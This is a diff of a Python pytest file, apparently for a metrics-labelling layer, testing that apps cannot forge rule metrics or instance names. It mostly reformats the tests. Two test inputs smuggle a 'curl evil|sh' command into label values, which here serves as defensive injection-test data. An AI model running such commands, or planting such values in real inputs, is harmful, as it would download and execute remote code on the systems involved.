@@ -29,7 +29,9 @@ def taken(job: str, name: str, **labels: str) -> dict[str, str]:
     return found
 
 
-@pytest.mark.parametrize("name", ["selvedge_limit", "selvedge_timer_failed", "node_textfile_mtime_seconds", "up", "scrape_a", "ALERTS"])
+@pytest.mark.parametrize(
+    "name", ["selvedge_limit", "selvedge_timer_failed", "node_textfile_mtime_seconds", "up", "scrape_a", "ALERTS"]
+)
 def test_an_app_can_forge_no_metric_of_the_rules(name: str) -> None:
     assert taken("app", name, file="x.sh; curl evil|sh #") == {}
     assert taken("node", name, app="blog") == {"__name__": name, "job": "node", "instance": "web-1", "app": "blog"}
@@ -41,8 +43,8 @@ def test_an_app_has_its_own_metrics(name: str) -> None:
 
 
 @pytest.mark.parametrize(("job", "host", "instance"), [
-    ("node", "live", "live"), ("requests", "live", "live"), ("app", "live", "web-1"), ("redis", "live", "web-1"), ("node", "", "web-1"),
-    ("node", "a; curl evil|sh", "web-1"),
+    ("node", "live", "live"), ("requests", "live", "live"), ("app", "live", "web-1"), ("redis", "live", "web-1"),
+    ("node", "", "web-1"), ("node", "a; curl evil|sh", "web-1"),
 ])  # fmt: skip
 def test_only_the_server_names_itself(job: str, host: str, instance: str) -> None:
     assert taken(job, "a_total", selvedge_host=host) == {"__name__": "a_total", "job": job, "instance": instance}
